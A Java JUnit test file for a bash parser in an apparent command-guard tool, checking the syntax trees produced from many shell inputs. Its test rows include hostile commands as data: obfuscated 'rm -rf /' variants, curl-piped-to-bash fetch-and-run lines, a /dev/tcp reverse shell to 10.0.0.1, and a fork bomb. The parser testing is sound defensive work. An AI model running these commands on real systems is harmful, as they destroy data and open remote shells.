package dev.cmdguard.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Valid bash in, the shape bash would read out, with no syntax error. Shapes are printed by {@link
 * AstPrinter}: {@code [word]} is a static word, nested lists are in braces.
 */
class BashParserTest {

  static Stream<Arguments> quoting() {
    return Stream.of(
        row("rm -rf /", "(simple [rm] [-rf] [/])"),
        row("r''m -rf /", "(simple [rm] [-rf] [/])"),
        row("\"rm\" -rf /", "(simple [rm] [-rf] [/])"),
        row("r\\m -rf /", "(simple [rm] [-rf] [/])"),
        row("\\rm -rf /", "(simple [rm] [-rf] [/])"),
        row("$'\\x72\\x6d' -rf /", "(simple [rm] [-rf] [/])"),
        row("$'\\162\\155' -rf /", "(simple [rm] [-rf] [/])"),
        row("$\"rm\" -rf /", "(simple [rm] [-rf] [/])"),
        row("'r'\"m\" -rf /", "(simple [rm] [-rf] [/])"),
        row("r\"m\" -rf /", "(simple [rm] [-rf] [/])"),
        row("echo a\\ b 'c d' \"e f\"", "(simple [echo] [a b] [c d] [e f])"),
        row("echo \"a b\"c'd'e", "(simple [echo] [a bcde])"),
        row(
            "echo \\* '*' \"*\" * ~/x ~ ~user/x",
            "(simple [echo] [*] [*] [*] [*] [~/x] [~] [~user/x])"),
        row("echo a\\\nb", "(simple [echo] [ab])"),
        row("l\\\ns -la", "(simple [ls] [-la])"),
        row("echo \"a\\\"b\\$c\\\\d\\e\\`f\"", "(simple [echo] [a\"b$c\\d\\e`f])"),
        row("echo 'a\\b' \"a\\nb\"", "(simple [echo] [a\\b] [a\\nb])"),
        row("echo \\$HOME \"\\$HOME\" '$HOME'", "(simple [echo] [$HOME] [$HOME] [$HOME])"),
        row(
            "echo \"$HOME\" \"${HOME}/x\" \"$HOME\"/x",
            "(simple [echo] [\"$HOME\"] [\"$HOME\"/x] [\"$HOME\"/x])"),
        row("$CMD -rf /", "(simple [$CMD] [-rf] [/])"),
        row("\"$(echo rm)\" -rf /", "(simple [\"$({(simple [echo] [rm])})\"] [-rf] [/])"),
        row("echo $'a\\tb' $'it\\'s'", "(simple [echo] [a\tb] [it's])"),
        row("echo $\"hello $USER\"", "(simple [echo] [hello \"$USER\"])"),
        row("echo \"\" ''", "(simple [echo] [] [])"),
        row("echo 日本語 | cat", "(pipe (simple [echo] [日本語]) (simple [cat]))"),
        row("echo a#b", "(simple [echo] [a#b])"),
        row("echo hi # rm -rf /", "(simple [echo] [hi])"),
        row("# only a comment", ""),
        row("", ""),
        row("  \n\t\n", ""));
  }

  static Stream<Arguments> expansions() {
    return Stream.of(
        row(
            "echo $X ${X} $1 $@ $# $? $$ $! $- $0 $_",
            "(simple [echo] [$X] [$X] [$1] [$@] [$#] [$?] [$$] [$!] [$-] [$0] [$_])"),
        row(
            "echo ${X:-/tmp} ${X:=y} ${X:?err} ${X:+alt} ${X-d}",
            "(simple [echo] [${X :-[/tmp]}] [${X :=[y]}] [${X :?[err]}] [${X :+[alt]}] [${X -[d]}])"),
        row(
            "echo ${#X} ${!X} ${!pre*} ${X/a/b} ${X//a/b}",
            "(simple [echo] [${X #}] [${X !}] [${pre !*}] [${X /[a/b]}] [${X //[a/b]}])"),
        row(
            "echo ${X%.*} ${X##*/} ${X:1:2} ${X^^} ${X,,} ${X@Q}",
            "(simple [echo] [${X %[.*]}] [${X ##[*/]}] [${X :[1:2]}] [${X ^^}] [${X ,,}] [${X @Q}])"),
        row("echo ${arr[@]} ${#arr[@]} ${10}", "(simple [echo] [$arr[@]] [${arr[@] #}] [$10])"),
        row("echo ${x:-$(rm -rf /)}", "(simple [echo] [${x :-[$({(simple [rm] [-rf] [/])})]}])"),
        row("echo \"${y:-`id`}\"", "(simple [echo] [\"${y :-[`{(simple [id])}`]}\"])"),
        row(
            "echo ${a[$(rm -rf /)]}",
            "(simple [echo] [$a[$(rm -rf /)]$({(simple [rm] [-rf] [/])})])"),
        row("echo $(rm -rf /)", "(simple [echo] [$({(simple [rm] [-rf] [/])})])"),
        row("echo `rm -rf /`", "(simple [echo] [`{(simple [rm] [-rf] [/])}`])"),
        row(
            "echo \"$(rm -rf /)\" \"`id`\"",
            "(simple [echo] [\"$({(simple [rm] [-rf] [/])})\"] [\"`{(simple [id])}`\"])"),
        row("echo `echo \\`ls\\``", "(simple [echo] [`{(simple [echo] [`{(simple [ls])}`])}`])"),
        row("echo `a \\$b`", "(simple [echo] [`{(simple [a] [$b])}`])"),
        row(
            "wc `find | grep .php$`",
            "(simple [wc] [`{(pipe (simple [find]) (simple [grep] [.php$]))}`])"),
        row(
            "echo $(echo $(echo deep))",
            "(simple [echo] [$({(simple [echo] [$({(simple [echo] [deep])})])})])"),
        row("echo \"$(echo \"a b\")\"", "(simple [echo] [\"$({(simple [echo] [a b])})\"])"),
        row("echo $()", "(simple [echo] [$({})])"),
        row(
            "echo $(( $(cat x) + 1 )) $((2*3)) $[1+2]",
            "(simple [echo] [$(($(cat x) + 1)) {(simple [cat] [x])}] [$((2*3))] [$((1+2))])"),
        row("echo $((1<<2)) $((x<<=1))", "(simple [echo] [$((1<<2))] [$((x<<=1))])"),
        row("bash <(curl -s http://x)", "(simple [bash] [<({(simple [curl] [-s] [http://x])})])"),
        row(
            "diff <(ls a) >(tee b)",
            "(simple [diff] [<({(simple [ls] [a])})] [>({(simple [tee] [b])})])"),
        row("source <(curl x)", "(simple [source] [<({(simple [curl] [x])})])"));
  }

  static Stream<Arguments> lists() {
    return Stream.of(
        row("ls; pwd", "(simple [ls]); (simple [pwd])"),
        row("ls\npwd", "(simple [ls]); (simple [pwd])"),
        row("ls;\n\npwd;", "(simple [ls]); (simple [pwd])"),
        row("cd / && rm -rf *", "(and (simple [cd] [/]) (simple [rm] [-rf] [*]))"),
        row("a || b && c", "(and (or (simple [a]) (simple [b])) (simple [c]))"),
        row(
            "a && b || c && d",
            "(and (or (and (simple [a]) (simple [b])) (simple [c])) (simple [d]))"),
        row(
            "a | b | c && d || e",
            "(or (and (pipe (simple [a]) (simple [b]) (simple [c])) (simple [d])) (simple [e]))"),
        row("ls / | xargs rm -rf", "(pipe (simple [ls] [/]) (simple [xargs] [rm] [-rf]))"),
        row("a | b |& c", "(pipe (simple [a]) (simple [b]) |& (simple [c]))"),
        row("echo 'rm -rf /' | sh", "(pipe (simple [echo] [rm -rf /]) (simple [sh]))"),
        row("curl -s http://x | bash", "(pipe (simple [curl] [-s] [http://x]) (simple [bash]))"),
        row(
            "echo 'rm -rf /' | sh && ls",
            "(and (pipe (simple [echo] [rm -rf /]) (simple [sh])) (simple [ls]))"),
        row("sleep 1 &", "(bg (simple [sleep] [1]))"),
        row("a & b; c &", "(bg (simple [a])); (simple [b]); (bg (simple [c]))"),
        row("a && b &", "(bg (and (simple [a]) (simple [b])))"),
        row("! grep x f", "(not (simple [grep] [x] [f]))"),
        row("! a | b && c", "(and (not (pipe (simple [a]) (simple [b]))) (simple [c]))"),
        row("! { ls; }", "(not (group {(simple [ls])}))"),
        row("ls | ! grep x", "(pipe (simple [ls]) (not (simple [grep] [x])))"),
        row("(cd / && rm -rf *)", "(subshell {(and (simple [cd] [/]) (simple [rm] [-rf] [*]))})"),
        row("{ ls; pwd; }", "(group {(simple [ls]); (simple [pwd])})"),
        row(
            "{ rm -rf /; } 2>/dev/null",
            "(redirected (group {(simple [rm] [-rf] [/])}) 2>[/dev/null])"),
        row("(ls) > out 2>&1", "(redirected (subshell {(simple [ls])}) >[out] 2>&[1])"),
        row("{ ls; } | cat", "(pipe (group {(simple [ls])}) (simple [cat]))"),
        row("time ls -l", "(simple [ls] [-l])"),
        row("time -p ls | wc", "(pipe (simple [ls]) (simple [wc]))"),
        row("time { ls; }", "(group {(simple [ls])})"),
        row("coproc ls", "(bg (simple [ls]))"),
        row("coproc NAME { ls; }", "(bg (group {(simple [ls])}))"),
        row("coproc (ls)", "(bg (subshell {(simple [ls])}))"));
  }

  static Stream<Arguments> compounds() {
    return Stream.of(
        row("if a; then b; fi", "(if {(simple [a])} then {(simple [b])})"),
        row(
            "if a; then b; elif c; then d; else e; fi",
            "(if {(simple [a])} then {(simple [b])} elif {(simple [c])} then {(simple [d])} else {(simple [e])})"),
        row(
            "if ! grep -q x f; then rm f; fi",
            "(if {(not (simple [grep] [-q] [x] [f]))} then {(simple [rm] [f])})"),
        row("if ! { a; }; then b; fi", "(if {(not (group {(simple [a])}))} then {(simple [b])})"),
        row(
            "while read l; do echo \"$l\"; done < file",
            "(redirected (while {(simple [read] [l])} {(simple [echo] [\"$l\"])}) <[file])"),
        row("until false; do :; done", "(until {(simple [false])} {(simple [:])})"),
        row("while :; do :; done &", "(bg (while {(simple [:])} {(simple [:])}))"),
        row("for f in *.txt; do rm \"$f\"; done", "(for f in [*.txt] {(simple [rm] [\"$f\"])})"),
        row("for f; do echo $f; done", "(for f {(simple [echo] [$f])})"),
        row("for f in; do :; done", "(for f in {(simple [:])})"),
        row(
            "for f in $(ls); do rm $f; done",
            "(for f in [$({(simple [ls])})] {(simple [rm] [$f])})"),
        row("select x in a b; do echo $x; done", "(select x in [a] [b] {(simple [echo] [$x])})"),
        row(
            "for ((i=0; i<3; i++)); do echo $i; done",
            "(for ((i=0; i<3; i++)) {(simple [echo] [$i])})"),
        row(
            "for ((i=0; i<$(nproc); i++)); do :; done",
            "(for ((i=0; i<$(nproc); i++)) {(simple [nproc])} {(simple [:])})"),
        row(
            "case $1 in start) run;; stop|halt) kill;; *) echo usage;; esac",
            "(case [$1] ([start] => {(simple [run])}) ([stop] [halt] => {(simple [kill])}) ([*] => {(simple [echo] [usage])}))"),
        row(
            "case x in (a) one;& b) two;;& c) three;; esac",
            "(case [x] ([a] => {(simple [one])}) ([b] => {(simple [two])}) ([c] => {(simple [three])}))"),
        row("case x in a) rm -rf /;& esac", "(case [x] ([a] => {(simple [rm] [-rf] [/])}))"),
        row(
            "case $x in *.txt|@(a|b)) rm;; esac",
            "(case [$x] ([*.txt] [@(a|b)] => {(simple [rm])}))"),
        row("f() { rm -rf \"$1\"; }", "(function f (group {(simple [rm] [-rf] [\"$1\"])}))"),
        row("function g { ls; }", "(function g (group {(simple [ls])}))"),
        row("function h() ( ls )", "(function h (subshell {(simple [ls])}))"),
        row("f() { ls; } > out", "(function f (redirected (group {(simple [ls])}) >[out]))"),
        row("f() { ! ls; }", "(function f (group {(not (simple [ls]))}))"),
        row(
            ":(){ :|:& };:",
            "(function : (group {(bg (pipe (simple [:]) (simple [:])))})); (simple [:])"),
        row("(( x = 1 + 2 ))", "(arith \"x = 1 + 2\")"),
        row("(( x <<= 1 ))", "(arith \"x <<= 1\")"),
        row("(( $(rm -rf /) ))", "(arith \"$(rm -rf /)\" {(simple [rm] [-rf] [/])})"),
        row("[[ -f /etc/passwd && $x == y* ]]", "(test [-f] [/etc/passwd] [&&] [$x] [==] [y*])"),
        row("[[ $(rm -rf /) ]]", "(test [$({(simple [rm] [-rf] [/])})])"),
        row("[[ a < b ]]", "(test [a] [<] [b])"),
        row("[[ $x =~ ^a.*$ ]]", "(test [$x] [=~] [^a.*$])"),
        row("[ -f x ]", "(simple [[] [-f] [x] []])"),
        row("test -f x", "(simple [test] [-f] [x])"));
  }

  static Stream<Arguments> assignments() {
    return Stream.of(
        row("X=/ rm -rf $X", "(simple X=[/] [rm] [-rf] [$X])"),
        row("X=/; rm -rf $X", "(simple X=[/]); (simple [rm] [-rf] [$X])"),
        row("X+=a", "(simple X+=[a])"),
        row("a[1]=x", "(simple a[1]=[x])"),
        row("X=(a b c)", "(simple X=@[(a b c)])"),
        row("X=(a $(rm -rf /))", "(simple X=@[(a $({(simple [rm] [-rf] [/])}))])"),
        row("X= ls", "(simple X=[] [ls])"),
        row("A=1 B=2 env", "(simple A=[1] B=[2] [env])"),
        row("IFS=, read -r a b", "(simple IFS=[,] [read] [-r] [a] [b])"),
        row("g=`md5sum $f` > x", "(simple g=[`{(simple [md5sum] [$f])}`] >[x])"),
        row("x=$(cat <<EOF\nbody\nEOF\n)", "(simple x=[$({(simple [cat] <<EOF:\"body\\n\")})])"),
        row("export X=/ PATH=\"$PATH:/x\"", "(simple [export] [X=/] [PATH=\"$PATH\":/x])"),
        row("declare -a x=(1 2)", "(simple [declare] [-a] [x=(1 2)])"),
        row(
            "local a b=2; readonly r=1; typeset -i n=3",
            "(simple [local] [a] [b=2]); (simple [readonly] [r=1]); (simple [typeset] [-i] [n=3])"),
        row("unset X Y", "(simple [unset] [X] [Y])"),
        row("export X=$(rm -rf /)", "(simple [export] [X=$({(simple [rm] [-rf] [/])})])"));
  }

  static Stream<Arguments> redirections() {
    return Stream.of(
        row("ls > out", "(simple [ls] >[out])"),
        row("ls >> out", "(simple [ls] >>[out])"),
        row("ls >| out", "(simple [ls] >|[out])"),
        row("cat < in", "(simple [cat] <[in])"),
        row("cat <> f", "(simple [cat] <>[f])"),
        row("ls &> out", "(simple [ls] &>[out])"),
        row("ls &>> out", "(simple [ls] &>>[out])"),
        row("ls >& out", "(simple [ls] >&[out])"),
        row("cat <& 3", "(simple [cat] <&[3])"),
        row("ls 2>&1", "(simple [ls] 2>&[1])"),
        row("ls 2>/dev/null", "(simple [ls] 2>[/dev/null])"),
        row("ls >&-", "(simple [ls] >&[-])"),
        row("ls 3>&- foo", "(simple [ls] [foo] 3>&[-])"),
        row("cat 0<x 0>&1", "(simple [cat] 0<[x] 0>&[1])"),
        row("exec {fd}>file", "(simple [exec] {fd}>[file])"),
        row("exec 3<>/dev/tcp/10.0.0.1/80", "(simple [exec] 3<>[/dev/tcp/10.0.0.1/80])"),
        row(
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "(simple [bash] [-i] >&[/dev/tcp/10.0.0.1/8080] 0>&[1])"),
        row(">out cmd arg", "(simple [cmd] [arg] >[out])"),
        row("> out", "(simple >[out])"),
        row("echo a > f b c", "(simple [echo] [a] [b] [c] >[f])"),
        row("echo a >/tmp.$$ b", "(simple [echo] [a] [b] >[/tmp.$$])"),
        row("sh <<< \"rm -rf /\"", "(simple [sh] <<<[rm -rf /])"),
        row("cat 0<<< x", "(simple [cat] 0<<<[x])"),
        row("cat <<< x y", "(simple [cat] [y] <<<[x])"));
  }

  static Stream<Arguments> heredocs() {
    return Stream.of(
        row("cat <<EOF\nhello $USER\nEOF", "(simple [cat] <<EOF:\"hello \"$USER\"\\n\")"),
        row("cat <<'EOF'\nhello $USER\nEOF", "(simple [cat] <<'EOF':\"hello $USER\\n\")"),
        row("cat <<\"EOF\"\nhello $USER\nEOF", "(simple [cat] <<'EOF':\"hello $USER\\n\")"),
        row("cat <<\\EOF\nhello $USER\nEOF", "(simple [cat] <<'EOF':\"hello $USER\\n\")"),
        row("cat <<E\"O\"F\nx\nEOF", "(simple [cat] <<'EOF':\"x\\n\")"),
        row("cat <<-EOF\n\ttabbed\n\tEOF", "(simple [cat] <<-EOF:\"tabbed\\n\")"),
        row("cat << EOF\nx\nEOF", "(simple [cat] <<EOF:\"x\\n\")"),
        row("bash <<'EOF'\nrm -rf /\nEOF", "(simple [bash] <<'EOF':\"rm -rf /\\n\")"),
        row(
            "cat <<EOF | sh\nrm -rf /\nEOF",
            "(pipe (simple [cat] <<EOF:\"rm -rf /\\n\") (simple [sh]))"),
        row(
            "cat <<EOF && echo hi\nbody\nEOF",
            "(and (simple [cat] <<EOF:\"body\\n\") (simple [echo] [hi]))"),
        row(
            "cat <<EOF || true\nbody\nEOF",
            "(or (simple [cat] <<EOF:\"body\\n\") (simple [true]))"),
        row("bash <<EOF; ls\nx\nEOF", "(simple [bash] <<EOF:\"x\\n\"); (simple [ls])"),
        row(
            "bash <<EOF; ls\nx\nEOF\nrm -rf /",
            "(simple [bash] <<EOF:\"x\\n\"); (simple [ls]); (simple [rm] [-rf] [/])"),
        row("cat <<A <<B\na\nA\nb\nB", "(simple [cat] <<A:\"a\\n\" <<B:\"b\\n\")"),
        row(
            "cat <<A; cat <<B\na\nA\nb\nB",
            "(simple [cat] <<A:\"a\\n\"); (simple [cat] <<B:\"b\\n\")"),
        row(
            "cat <<A <<'B' | sh\na $x\nA\nb $y\nB",
            "(pipe (simple [cat] <<A:\"a \"$x\"\\n\" <<'B':\"b $y\\n\") (simple [sh]))"),
        row(
            "cat <<EOF\n$(rm -rf /) `id` \\$x\nEOF",
            "(simple [cat] <<EOF:\"\"$({(simple [rm] [-rf] [/])})\" \"`{(simple [id])}`\" $x\\n\")"),
        row("cat <<EOF > out.sh\necho hi\nEOF", "(simple [cat] <<EOF:\"echo hi\\n\" >[out.sh])"),
        row("cat <<EOF\nEOF", "(simple [cat] <<EOF:\"\")"),
        row("cat <<EOF\n  EOF\nEOF", "(simple [cat] <<EOF:\"  EOF\\n\")"),
        row("echo \"<<EOF\" '<<EOF' # <<EOF", "(simple [echo] [<<EOF] [<<EOF])"),
        row("cat <<EOF\na \\\nEOF\nb\nEOF", "(simple [cat] <<EOF:\"a EOF\\nb\\n\")"),
        row("cat <<'EOF'\na \\\nEOF\nb", "(simple [cat] <<'EOF':\"a \\\\\\n\"); (simple [b])"),
        row(
            "bash -c \"$(cat <<EOF\nrm -rf /\nEOF)\"",
            "(simple [bash] [-c] [\"$({(simple [cat] <<EOF:\"rm -rf /\\n\")})\"])"),
        row(
            "x=`cat <<EOF\nrm -rf /\nEOF\n`",
            "(simple x=[`{(simple [cat] <<EOF:\"rm -rf /\\n\")}`])"),
        row(
            "f() {\n  cat <<EOF\n  x\nEOF\n}",
            "(function f (group {(simple [cat] <<EOF:\"  x\\n\")}))"),
        row(
            "while read l; do rm $l; done <<EOF\na\nEOF",
            "(redirected (while {(simple [read] [l])} {(simple [rm] [$l])}) <<EOF:\"a\\n\")"),
        row("cat <<EOF\r\nx\r\nEOF\r\nls", "(simple [cat] <<EOF\r:\"x\r\\n\"); (simple [ls])"));
  }

  static Stream<Arguments> wrappersAreJustWords() {
    return Stream.of(
        row("eval \"rm -rf /\"", "(simple [eval] [rm -rf /])"),
        row("bash -lc \"cd / && rm -rf *\"", "(simple [bash] [-lc] [cd / && rm -rf *])"),
        row("bash -c 'rm -rf /'", "(simple [bash] [-c] [rm -rf /])"),
        row("sudo -u root rm -rf /", "(simple [sudo] [-u] [root] [rm] [-rf] [/])"),
        row("find / -exec rm -rf {} +", "(simple [find] [/] [-exec] [rm] [-rf] [{}] [+])"),
        row(
            "find . -name '*.log' -exec rm -f {} \\;",
            "(simple [find] [.] [-name] [*.log] [-exec] [rm] [-f] [{}] [;])"),
        row("rm -rf \"$HOME\"", "(simple [rm] [-rf] [\"$HOME\"])"),
        row("rm -rf ~/", "(simple [rm] [-rf] [~/])"),
        row("ls\r\nrm -rf /\r\n", "(simple [ls]); (simple [rm] [-rf] [/])"),
        row("echo é; rm -rf /", "(simple [echo] [é]); (simple [rm] [-rf] [/])"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({
    "quoting",
    "expansions",
    "lists",
    "compounds",
    "assignments",
    "redirections",
    "heredocs",
    "wrappersAreJustWords"
  })
  void parsesTheWayBashReadsIt(String source, String expected) {
    ParseResult result = BashParser.parse(source);

    assertThat(AstPrinter.print(result.script())).isEqualTo(expected);
    assertThat(result.errors()).as("errors").isEmpty();
    assertThat(result.source()).isSameAs(source);
    assertThat(result.script().span()).isEqualTo(new Span(0, source.length()));
  }

  static Arguments row(String source, String expected) {
    return Arguments.of(source, expected);
  }
}
